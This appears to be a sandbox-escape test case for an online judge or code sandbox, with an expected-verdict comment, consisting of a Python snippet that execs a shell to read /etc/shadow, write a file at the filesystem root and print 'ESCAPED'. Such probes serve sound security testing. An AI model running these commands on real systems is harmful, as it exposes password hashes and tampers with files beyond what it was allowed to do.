# verdict: WA RTE
import os
os.execv('/bin/sh', ['sh', '-c', 'cat /etc/shadow; /bin/true; echo > /x; echo ESCAPED'])
